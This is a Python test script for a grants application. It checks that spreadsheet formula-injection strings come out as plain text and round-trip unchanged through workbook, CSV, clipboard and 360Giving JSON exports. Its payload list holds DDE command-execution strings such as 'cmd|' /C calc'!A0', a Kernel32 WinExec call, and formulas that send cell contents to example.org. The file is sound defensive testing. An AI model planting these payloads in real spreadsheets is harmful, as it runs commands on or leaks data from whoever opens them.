"""Put texts that a spreadsheet might run into every text field and every format: `python -m tests.proofs.injected`.

Each must come out as text and come back unchanged: the workbook, CSV, the clipboard, and 360Giving JSON.
"""

import csv
import itertools
import json
import sys
import tempfile
from collections import Counter
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl

from grants_app.exchange import clipboard, exporting
from grants_app.exchange.imports import importing
from grants_app.exchange.shapes import Column
from grants_app.exchange.sources import reading
from grants_app.records import RECORDS, Field, Grant, Kind, Record
from grants_app.store import Store, opening
from tests.make import make_in

_BEFORE = (
    "=",
    "+",
    "-",
    "@",
    "==",
    "=+",
    "=-",
    "-+",
    "+@",
    "@=",
    "=@",
    "'=",
    "''=",
    "-'",
    '"=',
    "\uff1d",
    "＋",
    "; =",
    ", =",
    "|=",
)
_PAYLOADS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?x="&A1,"Open")', "2+5+cmd|'/C x'!A0",
    'WEBSERVICE("http://example.org")', 'IMPORTXML(CONCAT("http://example.org/",A1),"//a")', 'DDE("cmd";"/C x";"x")',
    'IMAGE("http://example.org/a.png")', 'IMPORTRANGE("x","A1")', "rundll32|'URL.dll,OpenURL x'!A", "A1", "-1", "£5",
    'INDIRECT("A"&1)', 'EXEC("x")', 'CALL("Kernel32","WinExec","JC","x",0)', 'REGISTER.ID("x","y")',
    'FILES("C:\\*")', "'file:///C:/x'#$A.1", "MSEXCEL|'\\..\\..\\..\\x.exe'!''", "thisWorkbook|x!A", "0x2d",
    "é\u202etxt", "[0]!A",
)  # fmt: skip

_LONGEST = 60


def strings() -> list[str]:
    """The 500 texts."""
    return [before + payload for before, payload in itertools.product(_BEFORE, _PAYLOADS)]


def text_fields(kind: type[Record]) -> list[Field]:
    """The fields of a kind that hold any text of such a length."""
    return [
        f
        for f in kind.fields().values()
        if f.kind in (Kind.TEXT, Kind.LONG) and f.name not in ("sha256", "file_name") and (f.maximum or 500) > _LONGEST
    ]


def prove(folder: Path, texts: Sequence[str], each: int) -> Counter[str]:
    """Put `each` of the texts into every text field of every kind, by turns; how many came through each format."""
    store = opening.create(folder / "work.grants", "Ann Officer")
    try:
        turns = itertools.cycle(texts)
        for kind in RECORDS:
            with store.change(f"Make {kind.plural}", lenient=True) as session:
                for _ in range(each):
                    typed = {f.name: f.parse(next(turns)) for f in text_fields(kind)}
                    make_in(session, kind, {name: value for name, value in typed.items() if value})
        seen: Counter[str] = Counter()
        seen["values"] = sum(each * len(text_fields(kind)) for kind in RECORDS)
        seen["xlsx"] = _workbook(store, folder / "all.xlsx", set(texts))
        seen["csv"] = sum(_csv(store, kind, folder / f"{kind.__tablename__}.csv", set(texts)) for kind in RECORDS)
        seen["clipboard"] = _clipboard(texts)
        seen["json"] = _json(folder, texts)
        return seen
    finally:
        store.close()


def _workbook(store: Store, path: Path, texts: set[str]) -> int:
    """Every cell of the workbook that holds one of the texts holds it as text, and so reads it back."""
    exporting.write_workbook(store, path)
    book = openpyxl.load_workbook(path, read_only=True)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value in texts]
    assert all(cell.data_type == "s" for cell in cells)
    records = [sheet for sheet in book.worksheets if sheet.title != "Summary"]  # whose sums are our own
    assert not [cell for sheet in records for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    read = [
        cell for sheet in reading.open_source(path).sheets for _, row in sheet.rows() for cell in row if cell in texts
    ]
    assert len(read) == len(cells)
    return len(read)


def _csv(store: Store, kind: type[Record], path: Path, texts: set[str]) -> int:
    """No cell of the CSV begins as a formula would, and each text reads back as it was."""
    exporting.write_csv(store, kind, path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        raw = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in raw if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return sum(cell in texts for sheet in reading.open_source(path).sheets for _, row in sheet.rows() for cell in row)


def _clipboard(texts: Sequence[str]) -> int:
    columns = (Column("Text"), Column("Again"))
    rows = [(text, f"{text}\nand more") for text in texts]
    plain, rich = clipboard.as_text(columns, rows), clipboard.as_html(columns, rows)
    assert not [
        cell
        for line in csv.reader(plain.splitlines(keepends=True), delimiter="\t")
        for cell in line
        if cell[:1] in "=+-@"
    ]
    for source in (clipboard.source(plain), clipboard.source("", rich)):
        got = [tuple(row) for _, row in source.sheets[0].rows()][1:]
        assert got == rows, [pair for pair in zip(got, rows, strict=True) if pair[0] != pair[1]][:3]
    return 4 * len(texts)


def _json(folder: Path, texts: Sequence[str]) -> int:
    """Brought in from 360Giving JSON, the texts are kept as they are; brought in again, nothing changes."""
    grants = [_grant(number, text) for number, text in enumerate(texts)]
    path = folder / "package.json"
    path.write_text(json.dumps({"version": "1.4", "grants": grants}), encoding="utf-8")
    store = opening.create(folder / "json.grants", "Ann Officer")
    try:
        importing.bring_in(store, importing.preview(store, path))
        assert not importing.preview(store, path).changes_anything
        with store.reading() as session:
            kept = {(g.title, g.purpose) for g in session.query(Grant)}
        assert kept == {(text.strip(), text.strip()) for text in texts}
        return _workbook(store, folder / "json.xlsx", set(texts))
    finally:
        store.close()


def _grant(number: int, text: str) -> dict[str, Any]:
    return {
        "id": f"360G-X-{number}",
        "title": text,
        "description": text,
        "currency": "GBP",
        "amountAwarded": 10 + number,
        "awardDate": "2026-01-01",
        "recipientOrganization": [{"id": f"GB-CHC-{number}", "name": f"Recipient {number}"}],
        "fundingOrganization": [{"id": "GB-LAE-GLA", "name": "Greater London Authority"}],
    }


def main(arguments: list[str]) -> int:
    """Put every text through every field, and print how many came through."""
    each = int(arguments[0]) if arguments else len(strings())
    with tempfile.TemporaryDirectory() as folder:
        seen = prove(Path(folder), strings(), each)
    sys.stdout.write(
        f"{len(strings())} texts that a spreadsheet might run, {each} in each text field of {len(RECORDS)} kinds of "
        f"record ({seen['values']:,} values): came out as text and came back unchanged: "
        f"{', '.join(f'{name} {seen[name]:,}' for name in ('xlsx', 'csv', 'clipboard', 'json'))}.\n"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
